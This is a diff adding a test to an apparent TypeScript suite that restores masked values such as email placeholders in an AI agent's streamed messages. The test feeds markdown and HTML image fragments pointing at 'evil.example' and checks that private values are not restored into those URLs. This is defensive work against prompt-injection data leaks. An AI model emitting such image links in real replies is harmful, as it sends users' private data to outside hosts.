@@ -446,6 +446,19 @@ describe('the answer of a New Agent', () => {
     assert.equal(joined(through([piece('x'), other, rest]).join(''), 'message'), `see ${VALUE}.`)
   })
 
+  it('is one more piece to clients that join: what the pieces have begun is not ended by it', () => {
+    for (const begun of ['![x](https://evil.example/?', '<img src="https://evil.example/?'])
+      for (const whole of ['EMAIL_1)">', '{"a":"EMAIL_1)"}', '["\\"EMAIL_1"]']) {
+        const out = through([piece(begun), message(whole), message(whole)]).join('')
+        assert.equal(joined(out, 'message'), whole + whole)
+      }
+    const json = through([piece('Hello'), message('{"a":"EMAIL_1"}')]).join('')
+    assert.equal(joined(json, 'message'), `{"a":"${VALUE}"}`)
+    // Behind JSON text it is not known where the text is for them.
+    const later = through([piece('x'), message('{"a":"b"}'), piece('EMAIL_1 ')]).join('')
+    assert.equal(joined(later, 'agent_message'), 'xEMAIL_1 ')
+  })
+
   it('has thoughts that grow: one that ends in what may become another placeholder is not restored', () => {
     const values = { EMAIL_1: 'one@x.vn', EMAIL_12: 'twelve@x.vn' }
     const asks = (text: string): string => through([thought(text)], { values })[0] ?? ''
